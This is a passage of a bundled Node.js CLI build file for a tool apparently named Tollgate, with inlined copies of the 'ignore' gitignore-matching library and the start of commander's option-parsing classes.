#!/usr/bin/env node
// The Tollgate CLI, bundled: do not edit; run `pnpm run build:cli`.
import { createRequire as __tollgateCreateRequire } from "node:module";
const require = __tollgateCreateRequire(import.meta.url);
import {
  diagnosticFile,
  require_dist,
  sortDiagnostics,
  sortFindings
} from "./chunk-ZMHE2JLS.mjs";
import {
  loadOnWorkers,
  loadThreads
} from "./chunk-S35MFI3Y.mjs";
import {
  hclParser,
  loadBatch,
  loadHcl,
  loadHclWith,
  loadTfJson
} from "./chunk-3BHY4RL6.mjs";
import {
  RE2JS
} from "./chunk-IWKSKUXL.mjs";
import {
  treeToValue
} from "./chunk-6VO5NUTP.mjs";
import {
  linkAssumedRoles
} from "./chunk-BDUHOVXV.mjs";
import {
  SEVERITIES,
  WORKLOAD_KINDS,
  awsRoleIndex,
  parseUses,
  podSpecOf,
  podTemplateLabelsPath,
  registerExpressions
} from "./chunk-7WD6VUQZ.mjs";
import {
  SourceMap,
  formatPath,
  pathKey
} from "./chunk-5PNFQAMN.mjs";
import {
  LineIndex,
  Unknown,
  asList,
  emptyObject,
  getPath,
  isObject,
  isUnknown
} from "./chunk-JNLKQLQK.mjs";
import {
  __commonJS,
  __toESM
} from "./chunk-XLRDP7NM.mjs";

// node_modules/.pnpm/ignore@7.0.16/node_modules/ignore/index.js
var require_ignore = __commonJS({
  "node_modules/.pnpm/ignore@7.0.16/node_modules/ignore/index.js"(exports, module) {
    function makeArray(subject) {
      return Array.isArray(subject) ? subject : [subject];
    }
    var UNDEFINED = void 0;
    var EMPTY = "";
    var SPACE = " ";
    var ESCAPE = "\\";
    var REGEX_LITERAL_SPECIAL = /[.*+?()[\]{}^$|\\/]/;
    var BOM = "\uFEFF";
    var REGEX_ANCHORED_GLOBSTAR = /^\/\*{2,}$/;
    var REGEX_REPLACE_LEADING_EXCAPED_EXCLAMATION = /^\\!/;
    var REGEX_REPLACE_LEADING_EXCAPED_HASH = /^\\#/;
    var REGEX_SPLITALL_CRLF = /\r?\n/g;
    var DOUBLE_SLASH = "//";
    var SLASH_CODE = 47;
    var DOT_CODE = 46;
    var SLASH = "/";
    var TMP_KEY_IGNORE = "node-ignore";
    if (typeof Symbol !== "undefined") {
      TMP_KEY_IGNORE = /* @__PURE__ */ Symbol.for("node-ignore");
    }
    var KEY_IGNORE = TMP_KEY_IGNORE;
    var define = (object, key, value) => {
      Object.defineProperty(object, key, { value });
      return value;
    };
    var RETURN_FALSE = () => false;
    var POSIX_CLASSES = {
      alnum: "0-9A-Za-z",
      alpha: "A-Za-z",
      blank: " \\t",
      cntrl: "\\x00-\\x1f\\x7f",
      digit: "0-9",
      graph: "!-.0-~",
      lower: "a-z",
      print: " -.0-~",
      punct: "!-.:-@\\[-`{-~",
      // git's `sane-ctype.h` classifies \v and \f as control, not space,
      //   unlike C's `isspace`
      space: " \\t\\n\\r",
      upper: "A-Z",
      xdigit: "0-9A-Fa-f"
    };
    var CLASS_MEMBERS_TO_ESCAPE = "\\]^-[";
    var escapeMember = (char) => CLASS_MEMBERS_TO_ESCAPE.indexOf(char) < 0 ? char : ESCAPE + char;
    var NON_SLASH = "(?!\\/)";
    var classSource = (negated, body) => {
      if (negated) {
        return `[^\\/${body}]`;
      }
      const source = `[${body}]`;
      return new RegExp(source).test("/") ? NON_SLASH + source : source;
    };
    var scanBracket = (pattern, start) => {
      const { length } = pattern;
      let index = start + 1;
      let negated = EMPTY;
      const lead = pattern[index];
      if (lead === "!" || lead === "^") {
        negated = "^";
        index++;
      }
      let body = EMPTY;
      let prev = EMPTY;
      for (; ; ) {
        const char = pattern[index];
        if (char === UNDEFINED) {
          return null;
        }
        if (char === ESCAPE) {
          const escaped = pattern[++index];
          body += escapeMember(escaped);
          prev = escaped;
        } else if (char === "-" && prev && index + 1 < length && pattern[index + 1] !== "]") {
          index++;
          let to = pattern[index];
          if (to === ESCAPE) {
            to = pattern[index += 1];
          }
          if (prev <= to) {
            body += `-${escapeMember(to)}`;
          }
          prev = EMPTY;
        } else if (char === "[" && pattern[index + 1] === ":") {
          const nameStart = index + 2;
          let end = nameStart;
          while (end < length && pattern[end] !== "]") {
            end++;
          }
          if (end === length) {
            return null;
          }
          if (end > nameStart && pattern[end - 1] === ":") {
            const name = pattern.slice(nameStart, end - 1);
            if (!Object.prototype.hasOwnProperty.call(POSIX_CLASSES, name)) {
              return null;
            }
            body += POSIX_CLASSES[name];
            prev = EMPTY;
            index = end;
          } else {
            body += escapeMember("[");
            prev = "[";
            index = nameStart - 2;
          }
        } else {
          body += escapeMember(char);
          prev = char;
        }
        index++;
        if (pattern[index] === "]") {
          return {
            end: index,
            source: classSource(negated, body)
          };
        }
      }
    };
    var NEVER_MATCH = "[]";
    var PLACEHOLDER = "\0";
    var REGEX_RESTORE_PLACEHOLDER = new RegExp(
      `${PLACEHOLDER}(\\d+)${PLACEHOLDER}`,
      "g"
    );
    var TRAILING_WILDCARD = "";
    var TRAILING_DOUBLESTAR = "";
    var isReserved = (char) => char === PLACEHOLDER || char === TRAILING_WILDCARD || char === TRAILING_DOUBLESTAR;
    var extractBrackets = (pattern) => {
      const sources = [];
      const hold = (source) => `${PLACEHOLDER}${sources.push(source) - 1}${PLACEHOLDER}`;
      const { length } = pattern;
      let out = EMPTY;
      let index = 0;
      while (index < length) {
        const char = pattern[index];
        if (char === ESCAPE) {
          const escaped = pattern[index + 1];
          if (escaped === SLASH && index + 2 === length) {
            out += hold(NEVER_MATCH);
          } else if (escaped === "*" || escaped === "[" || escaped === SPACE) {
            out += pattern.slice(index, index + 2);
          } else {
            out += hold(
              REGEX_LITERAL_SPECIAL.test(escaped) ? ESCAPE + escaped : isReserved(escaped) ? `[${escaped}]` : escaped
            );
          }
          index += 2;
        } else if (isReserved(char)) {
          out += hold(`[${char}]`);
          index++;
        } else if (char === "[") {
          const scanned = scanBracket(pattern, index);
          if (scanned === null) {
            out += hold(NEVER_MATCH);
            index = length;
          } else {
            out += hold(scanned.source);
            index = scanned.end + 1;
          }
        } else {
          out += char;
          index++;
        }
      }
      return {
        source: out,
        sources
      };
    };
    var DIRECT = null;
    var REGEX_INNER_SLASH = /\/(?!$)/;
    var WILDCARD = "[^\\/]*";
    var REPLACERS = [
      // Replace (\ ) with ' '
      // Only a space: an escaped tab or other whitespace is already a literal by
      //   the time it reaches here, and a bare tab must be left as one, not turned
      //   into a space.
      // (\ ) -> ' '
      // (\\ ) -> '\\ '
      // (\\\ ) -> '\\ '
      [
        // A run of backslashes is taken whole, from its first one, so no match
        //   ever starts again inside it -- `(\\+?) ` did, which made a long run
        //   quadratic.
        /(\\+)( ?)/g,
        (_, run, space) => space ? run.slice(0, run.length - run.length % 2) + SPACE : run,
        ESCAPE + SPACE
      ],
      // git's wildmatch() reads a run of two or more asterisks as one globstar
      //   whenever the run fills a path segment: it starts the pattern or follows
      //   a `/`, and it ends the pattern or comes before a `/`. A run of two is
      //   already `**`; a longer one is folded into `**` here, so the steps
      //   below only ever have to know `**`.
      // `***/foo` -> `**/foo`, `a/***/b` -> `a/**/b`, `a/***` -> `a/**`
      // git also takes a run beside a literal prefix (`a***/b`) or beside an
      //   escaped slash (`***\/b`) as a globstar, and this does not; the README
      //   lists both, under "A run of asterisks".
      [
        /(^|\/)\*{3,}(?=\/|$)/g,
        (_, start) => `${start}**`,
        "*"
      ],
      // Escape metacharacters
      // which is written down by users but means special for regular expressions.
      // > There are 12 characters with special meanings:
      // > - the backslash \,
      // > - the caret ^,
      // > - the dollar sign $,
      // > - the period or dot .,
      // > - the vertical bar or pipe symbol |,
      // > - the question mark ?,
      // > - the asterisk or star *,
      // > - the plus sign +,
      // > - the opening parenthesis (,
      // > - the closing parenthesis ),
      // > - and the opening square bracket [,
      // > - the opening curly brace {,
      // > These special characters are often called "metacharacters".
      [
        /[\\$.|*+(){^]/g,
        (match) => `\\${match}`
      ],
      [
        // > a question mark (?) matches a single character
        /(?!\\)\?/g,
        () => "[^/]",
        "?"
      ],
      // leading slash
      [
        // > A leading slash matches the beginning of the pathname.
        // > For example, "/*.c" matches "cat-file.c" but not "mozilla-sha1/sha1.c".
        // A leading slash matches the beginning of the pathname
        /^\//,
        () => "^",
        SLASH
      ],
      // replace special metacharacter slash after the leading slash
      [
        /\//g,
        () => "\\/",
        SLASH
      ],
      [
        // > A leading "**" followed by a slash means match in all directories.
        // > For example, "**/foo" matches file or directory "foo" anywhere,
        // > the same as pattern "foo".
        // > "**/foo/bar" matches file or directory "bar" anywhere that is directly
        // >   under directory "foo".
        // Notice that the '*'s have been replaced as '\\*'
        /^\^*(?:\\\*\\\*\\\/)+/,
        // '**/foo' <-> 'foo'
        () => "(?:^|\\/)",
        "*"
      ],
      // starting
      [
        // there will be no leading '/'
        //   (which has been replaced by section "leading slash")
        // If starts with '**', adding a '^' to the regular expression also works
        DIRECT,
        (source, pattern) => {
          if (!source || source[0] === "^" || source[0] === "(") {
            return source;
          }
          const anchor = !REGEX_INNER_SLASH.test(pattern) ? "(?:^|\\/)" : "^";
          return anchor + source;
        }
      ],
      // two globstars
      [
        // Use lookahead assertions so that we could match more than one `'/**'`
        /\\\/\\\*\\\*(?=\\\/|$)/g,
        // Zero, one or several directories
        // should not use '*', or it will be replaced by the next replacer
        // Check if it is not the last `'/**'`
        (_, index, str2) => index + 6 < str2.length ? str2.slice(index + 6) === "\\/" ? "(?:\\/[^\\/]+)+" : "(?:\\/[^\\/]+)*" : `\\/${TRAILING_DOUBLESTAR}`,
        "*"
      ],
      // normal intermediate wildcards
      [
        // Never replace escaped '*'
        // ignore rule '\*' will match the path '*'
        // 'abc.*/' -> go
        // 'abc.*'  -> skip this rule,
        //    coz trailing single wildcard will be handed by [trailing wildcard]
        /(^|[^\\])(?:\\\*)+(?!$)/g,
        // '*.js' matches '.js'
        // '*.js' doesn't match 'abc'
        // 1. An asterisk "*" matches anything except a slash.
        // 2. Other consecutive asterisks are considered regular asterisks
        //    and collapse into one non-slash wildcard run.
        (_, p1) => p1 + WILDCARD,
        "*"
      ],
      // trailing wildcard, held apart from a literal star
      [
        // The step above leaves a trailing `*` alone, so a single `\*` is all that
        //   can be left at the end here, and what stands in front of it says which
        //   kind it is. A wildcard arrives as the escaper wrote it, `\*` with
        //   nothing before it; a literal arrives as the user's own escape, which
        //   the escaper doubled, and then the star's own -- `\\` and then `\*`.
        //   There is no third case: every backslash still reaching the chain is
        //   one `\*`, `\[` or `\ ` carries itself, and each is followed by its
        //   own character, so a longer run can never form. This runs while the
        //   two are still distinct, before the unescape steps below collapse the
        //   literal onto the very `\*` a wildcard leaves behind.
        /(^|[^\\])((?:\\\\)*)\\\*$/,
        (match, p1, p2) => p2 === EMPTY ? p1 + TRAILING_WILDCARD : match,
        "*"
      ],
      [
        // unescape, revert step 3 except for back slash
        // For example, if a user escape a '\\*',
        // after step 3, the result will be '\\\\\\*'
        /\\\\\\(?=[$.|*+(){^])/g,
        () => ESCAPE,
        ESCAPE + ESCAPE
      ],
      [
        // '\\\\' -> '\\'
        /\\\\/g,
        () => ESCAPE,
        ESCAPE + ESCAPE
      ],
      [
        // Every real bracket expression -- POSIX classes included -- has already
        //   been held aside by `extractBrackets`, so the only `[` left in the
        //   pattern is an escaped, literal one.
        // A backslash could only stand at the end of the range if it quoted the
        //   `]`, and `\]` is held aside long before this.
        /\\\[([^\]/]*?)($|\])/g,
        // '\\[bar]' -> '\\\\[bar]'
        (match, range2, close) => `\\[${range2}${close}`,
        "["
      ],
      // ending
      [
        // 'js' will not match 'js.'
        // 'ab' will not match 'abc'
        DIRECT,
        // WTF!
        // https://git-scm.com/docs/gitignore
        // changes in [2.22.1](https://git-scm.com/docs/gitignore/2.22.1)
        // which re-fixes #24, #38
        // > If there is a separator at the end of the pattern then the pattern
        // > will only match directories, otherwise the pattern can match both
        // > files and directories.
        // 'js*' will not match 'a.js'
        // 'js/' will not match 'a.js'
        // 'js' will match 'a.js' and 'a.js/'
        (source) => {
          const last = source[source.length - 1];
          if (!last || last === TRAILING_WILDCARD || last === TRAILING_DOUBLESTAR) {
            return source;
          }
          return last === SLASH ? `${source}$` : `${source}(?=$|\\/$)`;
        }
      ]
    ];
    var REGEX_REPLACE_TRAILING_WILDCARD = /(^|\\\/)?\uE000$/;
    var MODE_IGNORE = "regex";
    var MODE_CHECK_IGNORE = "checkRegex";
    var UNDERSCORE = "_";
    var replaceTrailingWildcard = (_, p1) => {
      const prefix = p1 ? `${p1}[^/]+` : "[^/]*";
      return `${prefix}(?=$|\\/$)`;
    };
    var REGEX_REPLACE_TRAILING_DOUBLESTAR = /\uE001$/;
    var replaceTrailingDoublestar = () => "[\\s\\S]";
    var separatorAfter = (run, at) => {
      let separator = EMPTY;
      for (let index = at + 1; index < run.length && !run[index].wildcard; index++) {
        separator += run[index].single;
      }
      return separator;
    };
    var pinWildcards = (source) => {
      if (source.indexOf(WILDCARD) < 0) {
        return source;
      }
      const tokens = [];
      const { length } = source;
      let index = 0;
      while (index < length) {
        const char = source[index];
        if (source.startsWith(WILDCARD, index)) {
          tokens.push({ wildcard: true });
          index += WILDCARD.length;
        } else if (char === "[") {
          let end = index + 1;
          if (source[end] === "^") {
            end++;
          }
          if (source[end] === "]") {
            end++;
          }
          while (end < length && source[end] !== "]") {
            end += source[end] === ESCAPE ? 2 : 1;
          }
          end++;
          tokens.push({ single: source.slice(index, end) });
          index = end;
        } else if (char === ESCAPE) {
          tokens.push({ single: source.slice(index, index + 2) });
          index += 2;
        } else if (char === "(") {
          let depth = 0;
          let end = index;
          do {
            if (source[end] === ESCAPE) {
              end++;
            } else if (source[end] === "(") {
              depth++;
            } else if (source[end] === ")") {
              depth--;
            }
            end++;
          } while (end < length && depth > 0);
          if ("*+?".indexOf(source[end]) >= 0) {
            end++;
          }
          tokens.push({ boundary: source.slice(index, end) });
          index = end;
        } else if (char === "^" || char === "$") {
          tokens.push({ boundary: char });
          index++;
        } else {
          tokens.push({ single: char });
          index++;
        }
      }
      let out = EMPTY;
      let run = [];
      const flush = () => {
        let lastWildcard;
        run.forEach((token, at) => {
          if (token.wildcard) {
            lastWildcard = at;
          }
        });
        run.forEach((token, at) => {
          if (!token.wildcard) {
            out += token.single;
            return;
          }
          out += at === lastWildcard ? WILDCARD : `(?:(?!${separatorAfter(run, at)})[^\\/])*`;
        });
        run = [];
      };
      tokens.forEach((token) => {
        if (token.boundary === void 0) {
          run.push(token);
          return;
        }
        flush();
        out += token.boundary;
      });
      flush();
      return out;
    };
    var makeRegexPrefix = (pattern) => {
      if (REGEX_ANCHORED_GLOBSTAR.test(pattern)) {
        pattern = "**";
      }
      const { source, sources } = extractBrackets(pattern);
      const replaced = REPLACERS.reduce(
        // A pass whose matcher finds nothing hands back the very string it was
        //   given, so asking first costs a search and saves a rewrite. Ten of the
        //   fifteen passes never fire for a typical .gitignore line, and between
        //   them they were 45% of this chain.
        (prev, [matcher, replacer, required]) => {
          if (matcher === DIRECT) {
            return replacer(prev, pattern);
          }
          if (required !== UNDEFINED && prev.indexOf(required) < 0) {
            return prev;
          }
          return matcher.test(prev) ? prev.replace(matcher, replacer.bind(pattern)) : prev;
        },
        source
      );
      return sources.length ? replaced.replace(
        REGEX_RESTORE_PLACEHOLDER,
        (match, index) => sources[index]
      ) : replaced;
    };
    var checkSourceOf = (body, prefix) => {
      if (body[body.length - 1] === SLASH) {
        prefix = makeRegexPrefix(body.slice(0, -1));
      }
      const head = prefix.slice(0, -1);
      const last = prefix[prefix.length - 1];
      return last === TRAILING_WILDCARD ? `${head}$` : last === TRAILING_DOUBLESTAR ? head : NEVER_MATCH;
    };
    var matchesBasename = (body) => {
      const index = body.indexOf(SLASH);
      return index < 0 || index === body.length - 1;
    };
    var basenameOf = (path15) => {
      const end = path15.length - 1;
      const index = path15.lastIndexOf(
        SLASH,
        path15[end] === SLASH ? end - 1 : end
      );
      return index < 0 ? path15 : path15.slice(index + 1);
    };
    var parentOf = (path15) => {
      if (path15.charCodeAt(0) === SLASH_CODE || path15.indexOf(DOUBLE_SLASH) >= 0) {
        const slices = path15.split(SLASH).filter(Boolean);
        slices.pop();
        return slices.length ? slices.join(SLASH) + SLASH : EMPTY;
      }
      const end = path15.length - 1;
      const cut = path15.lastIndexOf(
        SLASH,
        path15.charCodeAt(end) === SLASH_CODE ? end - 1 : end
      );
      return cut < 0 ? EMPTY : path15.slice(0, cut + 1);
    };
    var isString = (subject) => typeof subject === "string";
    var checkPattern = (pattern) => pattern && isString(pattern);
    var splitPattern = (pattern) => (pattern[pattern.length - 1] === "\r" ? pattern.slice(0, -1) : pattern).split(REGEX_SPLITALL_CRLF).filter(Boolean);
    var IgnoreRule = class {
      constructor(pattern, mark, body, ignoreCase, negative, prefix) {
        this.pattern = pattern;
        this.mark = mark;
        this.negative = negative;
        define(this, "body", body);
        define(this, "ignoreCase", ignoreCase);
        define(this, "regexPrefix", prefix);
      }
      // Worked out on first use and kept behind an own property, the way `regex`
      //   caches itself in `_regex`. Deciding it in the constructor instead would
      //   add a fourth `defineProperty` to every rule ever built, which cost 4% of
      //   every compile -- including the compiles of rules that are never matched
      //   against anything.
      get _basenameOnly() {
        return define(this, "_basenameOnly", matchesBasename(this.body));
      }
      get regex() {
        const key = UNDERSCORE + MODE_IGNORE;
        if (this[key]) {
          return this[key];
        }
        return this._make(MODE_IGNORE, key);
      }
      get checkRegex() {
        const key = UNDERSCORE + MODE_CHECK_IGNORE;
        if (this[key]) {
          return this[key];
        }
        return this._make(MODE_CHECK_IGNORE, key);
      }
      _make(mode, key) {
        const str2 = pinWildcards(
          mode === MODE_IGNORE ? this.regexPrefix.replace(REGEX_REPLACE_TRAILING_WILDCARD, replaceTrailingWildcard).replace(REGEX_REPLACE_TRAILING_DOUBLESTAR, replaceTrailingDoublestar) : checkSourceOf(this.body, this.regexPrefix)
        );
        const regex = this.ignoreCase ? new RegExp(str2, "i") : new RegExp(str2);
        return define(this, key, regex);
      }
    };
    var hasTrailingBackslash = (str2) => {
      let count = 0;
      while (str2[str2.length - count - 1] === ESCAPE) {
        count++;
      }
      return count % 2 === 1;
    };
    var trimEnd = (body, stripLineEnd) => {
      let lineEnd = body.length;
      let end;
      for (; ; ) {
        if (stripLineEnd && body[lineEnd - 1] === "\r") {
          lineEnd--;
        }
        end = lineEnd;
        while (body[end - 1] === SPACE) {
          end--;
        }
        if (!stripLineEnd || body[end - 1] !== "\n") {
          break;
        }
        lineEnd = end - 1;
      }
      if (end === lineEnd) {
        return body.slice(0, lineEnd);
      }
      let backslashes = 0;
      while (body[end - backslashes - 1] === ESCAPE) {
        backslashes++;
      }
      return backslashes % 2 ? body.slice(0, end - 1) + SPACE : body.slice(0, end);
    };
    var createRule = (pattern, mark, ignoreCase, stripLineEnd, stripBOM) => {
      let body = stripBOM && pattern[0] === BOM ? pattern.slice(1) : pattern;
      if (body[0] === "#") {
        return;
      }
      let negative = false;
      if (body[0] === "!") {
        negative = true;
        body = body.slice(1);
      }
      const last = body[body.length - 1];
      if (last === SPACE || stripLineEnd && (last === "\r" || last === "\n")) {
        body = trimEnd(body, stripLineEnd);
      }
      if (!body || hasTrailingBackslash(body)) {
        return;
      }
      body = body.replace(REGEX_REPLACE_LEADING_EXCAPED_EXCLAMATION, "!").replace(REGEX_REPLACE_LEADING_EXCAPED_HASH, "#");
      const regexPrefix = makeRegexPrefix(body);
      return new IgnoreRule(
        pattern,
        mark,
        body,
        ignoreCase,
        negative,
        regexPrefix
      );
    };
    var RuleManager = class {
      constructor(ignoreCase) {
        this._ignoreCase = ignoreCase;
        this._rules = [];
        this._basenameCount = 0;
      }
      _add(pattern, index) {
        if (pattern && pattern[KEY_IGNORE]) {
          this._rules = this._rules.concat(pattern._rules._rules);
          this._basenameCount += pattern._rules._basenameCount;
          this._added = true;
          return;
        }
        const isStr = isString(pattern);
        const raw = isStr ? pattern : pattern.pattern;
        const rule = checkPattern(raw) && createRule(
          raw,
          isStr ? UNDEFINED : pattern.mark,
          this._ignoreCase,
          !this._split,
          this._stripBOM && !index
        );
        if (rule) {
          this._added = true;
          this._rules.push(rule);
          if (matchesBasename(rule.body)) {
            this._basenameCount++;
          }
        }
      }
      // @param {Array<string> | string | Ignore} pattern
      add(pattern) {
        this._added = false;
        this._split = isString(pattern);
        this._stripBOM = !this._split || pattern[0] === BOM;
        makeArray(
          this._split ? splitPattern(pattern) : pattern
        ).forEach(this._add, this);
        if (this._added) {
          this._literalRules = UNDEFINED;
        }
        return this._added;
      }
      // Match the literal 'abc/' for `checkIgnore`, last rule wins. Only a rule
      //   ending in a wildcard can match it (see `checkSourceOf`), so the rest
      //   are left out once, rather than tested or compiled for every path.
      testLiteral(path15) {
        const rules = this._literalRules || (this._literalRules = this._rules.filter(
          ({ body }) => body[body.length - (body[body.length - 1] === SLASH ? 2 : 1)] === "*"
        ));
        let ignored = false;
        let unignored = false;
        let matchedRule;
        for (let index = rules.length - 1; index >= 0; index--) {
          const rule = rules[index];
          if (rule.checkRegex.test(path15)) {
            ignored = !rule.negative;
            unignored = rule.negative;
            matchedRule = rule.negative ? UNDEFINED : rule;
            break;
          }
        }
        const ret = {
          ignored,
          unignored
        };
        if (matchedRule) {
          ret.rule = matchedRule;
        }
        return ret;
      }
      // Test one single path without recursively checking parent directories
      //
      // - mode `string` either `MODE_IGNORE` or `MODE_CHECK_IGNORE`
      // @returns {TestResult}
      test(path15, mode) {
        const rules = this._rules;
        const { length } = rules;
        const shortcut = this._basenameCount * 2 >= length;
        const basename = shortcut ? basenameOf(path15) : path15;
        for (let index = length - 1; index >= 0; index--) {
          const rule = rules[index];
          if (rule[mode].test(
            shortcut && rule._basenameOnly ? basename : path15
          )) {
            const { negative } = rule;
            const ret = {
              ignored: !negative,
              unignored: negative
            };
            if (!negative) {
              ret.rule = rule;
            }
            return ret;
          }
        }
        return {
          ignored: false,
          unignored: false
        };
      }
    };
    var throwError = (message, Ctor) => {
      throw new Ctor(message);
    };
    var checkPath = (path15, originalPath, doThrow) => {
      if (!isString(path15)) {
        return doThrow(
          `path must be a string, but got \`${originalPath}\``,
          TypeError
        );
      }
      if (!path15) {
        return doThrow(`path must not be empty`, TypeError);
      }
      if (checkPath.isNotRelative(path15)) {
        const r = "`path.relative()`d";
        return doThrow(
          `path should be a ${r} string, but got "${originalPath}"`,
          RangeError
        );
      }
      return true;
    };
    var isNotRelative = (path15) => {
      const first = path15.charCodeAt(0);
      if (first === SLASH_CODE) {
        return true;
      }
      if (first !== DOT_CODE) {
        return false;
      }
      if (path15.length === 1) {
        return true;
      }
      const second = path15.charCodeAt(1);
      if (second === SLASH_CODE) {
        return true;
      }
      if (second !== DOT_CODE) {
        return false;
      }
      return path15.length === 2 || path15.charCodeAt(2) === SLASH_CODE;
    };
    checkPath.isNotRelative = isNotRelative;
    checkPath.convert = (p) => p;
    var convertPath = (target) => isString(target) && checkPath.convert(target);
    var Ignore = class {
      constructor({
        ignorecase = true,
        ignoreCase = ignorecase,
        allowRelativePaths = false
      } = {}) {
        define(this, KEY_IGNORE, true);
        this._rules = new RuleManager(ignoreCase);
        this._strictPathCheck = !allowRelativePaths;
        this._initCache();
      }
      _initCache() {
        this._ignoreCache = /* @__PURE__ */ Object.create(null);
        this._testCache = /* @__PURE__ */ Object.create(null);
      }
      add(pattern) {
        if (this._rules.add(pattern)) {
          this._initCache();
        }
        return this;
      }
      // legacy
      addPattern(pattern) {
        return this.add(pattern);
      }
      // @returns {TestResult}
      _test(originalPath, cache, path15) {
        checkPath(
          path15,
          originalPath,
          this._strictPathCheck ? throwError : RETURN_FALSE
        );
        return path15 ? this._t(path15, cache) : {
          ignored: false,
          unignored: false
        };
      }
      checkIgnore(target) {
        const path15 = convertPath(target);
        if (!path15 || path15.charCodeAt(path15.length - 1) !== SLASH_CODE) {
          return this._test(target, this._testCache, path15);
        }
        const dir = this._t(path15, this._testCache);
        if (dir.ignored) {
          return dir;
        }
        const literal = this._rules.testLiteral(path15);
        return literal.ignored || literal.unignored ? literal : dir;
      }
      _t(path15, cache) {
        if (path15 in cache) {
          return cache[path15];
        }
        const parentPath = parentOf(path15);
        const parent = parentPath ? this._t(parentPath, cache) : UNDEFINED;
        return cache[path15] = parent && parent.ignored ? parent : this._rules.test(path15, MODE_IGNORE);
      }
      ignores(path15) {
        return this._test(path15, this._ignoreCache, convertPath(path15)).ignored;
      }
      createFilter() {
        return (path15) => !this.ignores(path15);
      }
      filter(paths) {
        return makeArray(paths).filter(this.createFilter());
      }
      // @returns {TestResult}
      test(path15) {
        return this._test(path15, this._testCache, convertPath(path15));
      }
    };
    var factory = (options) => new Ignore(options);
    var isPathValid = (path15) => checkPath(convertPath(path15), path15, RETURN_FALSE);
    var setupWindows = () => {
      const makePosix = (str2) => /^\\\\\?\\/.test(str2) || /["<>|\u0000-\u001F]+/u.test(str2) ? str2 : str2.replace(/\\/g, "/");
      checkPath.convert = makePosix;
      const REGEX_TEST_WINDOWS_PATH_ABSOLUTE = /^[a-z]:\//i;
      checkPath.isNotRelative = (path15) => REGEX_TEST_WINDOWS_PATH_ABSOLUTE.test(path15) || isNotRelative(path15);
    };
    if (
      // Detect `process` so that it can run in browsers.
      typeof process !== "undefined" && process.platform === "win32"
    ) {
      setupWindows();
    }
    module.exports = factory;
    factory.default = factory;
    module.exports.isPathValid = isPathValid;
    define(module.exports, /* @__PURE__ */ Symbol.for("setupWindows"), setupWindows);
  }
});

// node_modules/.pnpm/commander@15.1.0/node_modules/commander/lib/error.js
var CommanderError = class extends Error {
  /**
   * Constructs the CommanderError class
   * @param {number} exitCode suggested exit code which could be used with process.exit
   * @param {string} code an id string representing the error
   * @param {string} message human-readable description of the error
   */
  constructor(exitCode, code, message) {
    super(message);
    Error.captureStackTrace(this, this.constructor);
    this.name = this.constructor.name;
    this.code = code;
    this.exitCode = exitCode;
    this.nestedError = void 0;
  }
};
var InvalidArgumentError = class extends CommanderError {
  /**
   * Constructs the InvalidArgumentError class
   * @param {string} [message] explanation of why argument is invalid
   */
  constructor(message) {
    super(1, "commander.invalidArgument", message);
    Error.captureStackTrace(this, this.constructor);
    this.name = this.constructor.name;
  }
};

// node_modules/.pnpm/commander@15.1.0/node_modules/commander/lib/option.js
var Option = class {
  /**
   * Initialize a new `Option` with the given `flags` and `description`.
   *
   * @param {string} flags
   * @param {string} [description]
   */
  constructor(flags, description) {
    this.flags = flags;
    this.description = description || "";
    this.required = flags.includes("<");
    this.optional = flags.includes("[");
    this.variadic = new RegExp("\\p{ID_Continue}\\.\\.\\.[>\\]]$", "u").test(flags);
    this.mandatory = false;
    const optionFlags = splitOptionFlags(flags);
    this.short = optionFlags.shortFlag;
    this.long = optionFlags.longFlag;
    this.negate = false;
    if (this.long) {
      this.negate = this.long.startsWith("--no-");
    }
    this.defaultValue = void 0;
    this.defaultValueDescription = void 0;
    this.presetArg = void 0;
    this.envVar = void 0;
    this.parseArg = void 0;
    this.hidden = false;
    this.argChoices = void 0;
    this.conflictsWith = [];
    this.implied = void 0;
    this.helpGroupHeading = void 0;
  }
  /**
   * Set the default value, and optionally supply the description to be displayed in the help.
   *
   * @param {*} value
   * @param {string} [description]
   * @return {Option}
   */
  default(value, description) {
    this.defaultValue = value;
    this.defaultValueDescription = description;
    return this;
  }
  /**
   * Preset to use when option used without option-argument, especially optional but also boolean and negated.
   * The custom processing (parseArg) is called.
   *
   * @example
   * new Option('--color').default('GREYSCALE').preset('RGB');
   * new Option('--donate [amount]').preset('20').argParser(parseFloat);
   *
   * @param {*} arg
   * @return {Option}
   */
  preset(arg) {
    this.presetArg = arg;
    return this;
  }
  /**
   * Add option name(s) that conflict with this option.
   * An error will be displayed if conflicting options are found during parsing.
   *
   * @example
   * new Option('--rgb').conflicts('cmyk');
   * new Option('--js').conflicts(['ts', 'jsx']);
   *
   * @param {(string | string[])} names
   * @return {Option}
   */
  conflicts(names) {
    this.conflictsWith = this.conflictsWith.concat(names);
    return this;
  }
  /**
   * Specify implied option values for when this option is set and the implied options are not.
   *
   * The custom processing (parseArg) is not called on the implied values.
   *
   * @example
   * program
   *   .addOption(new Option('--log', 'write logging information to file'))
   *   .addOption(new Option('--trace', 'log extra details').implies({ log: 'trace.txt' }));
   *
   * @param {object} impliedOptionValues
   * @return {Option}
   */
  implies(impliedOptionValues) {
    let newImplied = impliedOptionValues;
    if (typeof impliedOptionValues === "string") {
      newImplied = { [impliedOptionValues]: true };
    }
    this.implied = Object.assign(this.implied || {}, newImplied);
    return this;
  }
  /**
   * Set environment variable to check for option value.
   *
   * An environment variable is only used if when processed the current option value is
   * undefined, or the source of the current value is 'default' or 'config' or 'env'.
   *
   * @param {string} name
   * @return {Option}
   */
  env(name) {
    this.envVar = name;
    return this;
  }
  /**
   * Set the custom handler for processing CLI option arguments into option values.
   *
   * @param {Function} [fn]
   * @return {Option}
   */
  argParser(fn2) {
    this.parseArg = fn2;
    return this;
  }
  /**
   * Whether the option is mandatory and must have a value after parsing.
   *
   * @param {boolean} [mandatory=true]
   * @return {Option}
   */
  makeOptionMandatory(mandatory = true) {
    this.mandatory = !!mandatory;
    return this;
  }
  /**
   * Hide option in help.
   *
   * @param {boolean} [hide=true]
   * @return {Option}
   */
  hideHelp(hide = true) {
    this.hidden = !!hide;
    return this;
  }
  /**
   * @package
   */
  _collectValue(value, previous) {
    if (previous === this.defaultValue || !Array.isArray(previous)) {
      return [value];
    }
    previous.push(value);
    return previous;
  }
  /**
   * Only allow option value to be one of choices.
   *
   * @param {string[]} values
   * @return {Option}
   */
  choices(values) {
    this.argChoices = values.slice();
    this.parseArg = (arg, previous) => {
      if (!this.argChoices.includes(arg)) {
        throw new InvalidArgumentError(
          `Allowed choices are ${this.argChoices.join(", ")}.`
        );
      }
      if (this.variadic) {
        return this._collectValue(arg, previous);
      }
      return arg;
    };
    return this;
  }
  /**
